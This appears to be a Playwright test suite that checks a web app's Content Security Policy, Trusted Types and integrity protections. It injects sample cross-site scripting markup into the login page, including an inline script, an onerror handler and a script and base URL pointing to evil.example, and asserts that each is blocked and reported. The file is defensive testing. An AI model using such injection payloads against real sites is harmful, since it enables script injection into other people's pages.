import assert from 'node:assert/strict';
import {createHash} from 'node:crypto';
import type {CourseDraftResponse} from '@switchboard/contracts/courses/schemas';
import type {Page} from 'playwright-core';
import {call} from '../support/api.ts';
import {visit} from '../support/pages/browser.ts';
import {setStage} from '../support/system/stage.ts';
import {test} from '../support/test.ts';

const stage = setStage();

const ATTACK = 'window.ran = true';
const POLL_MS = 200;
const PATIENCE_MS = 60_000;

/** The page of the product with markup inserted before its end, as by an attacker; `NONCE` becomes the page's own. */
const inject = (page: Page, markup: string) =>
  page.route('/login', async (route) => {
    const answer = await route.fetch();
    const html = await answer.text();
    const nonce = /<script nonce="([^"]+)"/.exec(html)?.[1] ?? '';
    await route.fulfill({
      response: answer,
      body: html.replace('</body>', `${markup.replaceAll('NONCE', nonce)}</body>`),
    });
  });

const violations = async (): Promise<Record<string, number>> => {
  const answer = await fetch(`${stage.system.url}/registry/v1/health?minutes=60`);
  return ((await answer.json()) as {violations: Record<string, number>}).violations;
};

/** The browser sends reports by itself, some time after the fault. */
async function assertCounted(directives: readonly string[], before: Record<string, number>) {
  const until = performance.now() + PATIENCE_MS;
  const missing = async () => {
    const now = await violations();
    return directives.filter((directive) => (now[directive] ?? 0) <= (before[directive] ?? 0));
  };
  while ((await missing()).length > 0) {
    if (performance.now() > until) assert.fail(`not counted: ${(await missing()).join(', ')}`);
    await new Promise((resolve) => setTimeout(resolve, POLL_MS));
  }
}

/** A script that answers any origin and leaves a mark where it runs. */
const serveAttack = (page: Page) =>
  page.route('**/attack.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: {'access-control-allow-origin': '*'},
      body: ATTACK,
    }),
  );

const ran = (page: Page) => page.evaluate(() => (window as {ran?: boolean}).ran ?? false);

test.describe('policies of the page', () => {
  /** The attempt, and the directive that blocks it. */
  const attacks: [what: string, markup: string, directive: string, blocked: string][] = [
    ['an inline script', '<script>window.ran = true</script>', 'script-src-elem', 'inline'],
    [
      'an inline handler',
      '<img src="data:," onerror="window.ran = true">',
      'script-src-attr',
      'inline',
    ],
    [
      'a script of a foreign origin, though it has the nonce',
      '<script nonce="NONCE" src="https://evil.example/attack.js"></script>',
      'script-src-elem',
      'https://evil.example/attack.js',
    ],
    ['an inline style', '<style>body {display: none}</style>', 'style-src-elem', 'inline'],
    ['a frame', '<iframe src="/login"></iframe>', 'frame-src', 'http'],
    ['another base of addresses', '<base href="https://evil.example/">', 'base-uri', 'http'],
  ];
  test(`P4 ${attacks.map(([what]) => what).join('; ')}: each is blocked, reported and counted, and the product keeps working`, async () => {
    const before = await violations();
    const {page, context, faults} = await visit(stage.browser, stage.system.url);
    await inject(page, attacks.map(([, markup]) => markup).join(''));
    await serveAttack(page);
    await page.goto('/login');
    await page.getByRole('button', {name: 'Log in'}).waitFor();
    await assertCounted(
      attacks.map(([, , directive]) => directive),
      before,
    );
    assert.equal(await ran(page), false);
    for (const [what, , directive, blocked] of attacks)
      assert.ok(
        faults.some((fault) => fault.startsWith(`policy: ${directive} blocked ${blocked}`)),
        `${what} was not blocked:\n${faults.join('\n')}`,
      );
    await context.close();
  });

  // Browsers send these through the Reporting API, which sends nothing from an address without https.
  test('P4 a script without integrity is blocked; the same script with its hash runs', async () => {
    const integrity = `sha384-${createHash('sha384').update(ATTACK).digest('base64')}`;
    for (const [attribute, isRun] of [
      ['', false],
      [`integrity="${integrity}"`, true],
    ] as const) {
      const {page, context, faults} = await visit(stage.browser, stage.system.url);
      await inject(
        page,
        `<script nonce="NONCE" ${attribute} src="/attack.js" crossorigin="anonymous"></script>`,
      );
      await serveAttack(page);
      await page.goto('/login');
      await page.getByRole('button', {name: 'Log in'}).waitFor();
      assert.equal(await ran(page), isRun);
      assert.equal(
        faults.some((fault) => /^policy: integrity-policy blocked .*attack\.js$/.test(fault)),
        !isRun,
        faults.join('\n'),
      );
      await context.close();
    }
  });

  test('P1 no code of the page can load or set strings as code, or add a policy', async () => {
    const {page, context} = await visit(stage.browser, stage.system.url);
    await page.goto('/login');
    const outcomes = await page.evaluate(() => {
      const attempt = (run: () => unknown) => {
        try {
          run();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const {trustedTypes} = window as unknown as {
        trustedTypes: {createPolicy: (name: string, rules: object) => unknown};
      };
      return [
        attempt(() => Object.assign(document.createElement('script'), {src: '/static/js/any.js'})),
        attempt(() =>
          Object.assign(document.createElement('div'), {innerHTML: '<img src=x onerror=alert(1)>'}),
        ),
        attempt(() => trustedTypes.createPolicy('default', {})),
      ];
    });
    assert.deepEqual(outcomes, ['TypeError', 'TypeError', 'TypeError']);
    await context.close();
  });

  test('P4 the HTML of messages and lessons is shown and edited without a violation', async () => {
    const {url} = stage.system;
    const {token} = stage.owner;
    const html = '<p>Some <strong>bold</strong> words</p>';
    const ticket = await call<{ticket: {number: number}}>(`${url}/connect/api/tickets`, {
      method: 'POST',
      token,
      body: {subject: 'With HTML', requester: {email: 'ana@example.com'}, html},
    });
    const {
      body: {course, sections},
    } = await call<CourseDraftResponse>(`${url}/training/api/courses`, {
      method: 'POST',
      token,
      body: {title: 'With HTML', sections: [{title: '', lessons: [{title: 'First', html}]}]},
    });
    const {page, context, faults} = await visit(stage.browser, url, {token});
    for (const path of [
      `/dashboard/tickets/${ticket.body.ticket.number}`,
      `/dashboard/training/course/${course.id}/lesson/${sections[0]?.lessons[0]?.id}`,
    ]) {
      await page.goto(path);
      await page.locator('strong', {hasText: 'bold'}).waitFor();
    }
    await page.goto(`/dashboard/training/management/${course.id}`);
    await page.getByRole('textbox', {name: 'Lesson text'}).locator('strong').waitFor();
    assert.deepEqual(faults, []);
    await context.close();
  });

  test('P3 a font with a changed byte is not used, and text still shows', async () => {
    const {page, context} = await visit(stage.browser, stage.system.url);
    await page.route('**/open-sans-latin-wght-*', async (route) => {
      const answer = await route.fetch();
      const bytes = Buffer.from(await answer.body());
      bytes[1000] = (bytes[1000] ?? 0) ^ 1;
      await route.fulfill({response: answer, body: bytes});
    });
    const refused = page.waitForEvent('console', (message) =>
      message.text().includes('valid digest'),
    );
    await page.goto('/login');
    await page.getByRole('button', {name: 'Log in'}).waitFor();
    await refused;
    await page.waitForFunction(() =>
      [...document.fonts].some(({family, status}) => family === 'Open Sans' && status === 'loaded'),
    );
    const ranges = await page.evaluate(() =>
      [...document.fonts]
        .filter(({family}) => family === 'Open Sans')
        .map(({unicodeRange}) => unicodeRange.split(',')[0]),
    );
    assert.deepEqual(ranges, ['U+100-2BA']);
    await context.close();
  });

  test('P3 each font is fetched once, whether or not it was preloaded', async () => {
    const {page, context, faults} = await visit(stage.browser, stage.system.url);
    const fonts: string[] = [];
    page.on('request', (request) =>
      fonts.push(...(request.url().match(/open-sans-[a-z-]+/) ?? [])),
    );
    await page.goto('/login');
    await page.waitForFunction(
      () =>
        [...document.fonts].filter(
          ({family, status}) => family === 'Open Sans' && status === 'loaded',
        ).length === 2,
    );
    assert.deepEqual(fonts.sort(), [
      'open-sans-latin-ext-wght-normal',
      'open-sans-latin-wght-normal',
    ]);
    assert.deepEqual(faults, []);
    await context.close();
  });
});
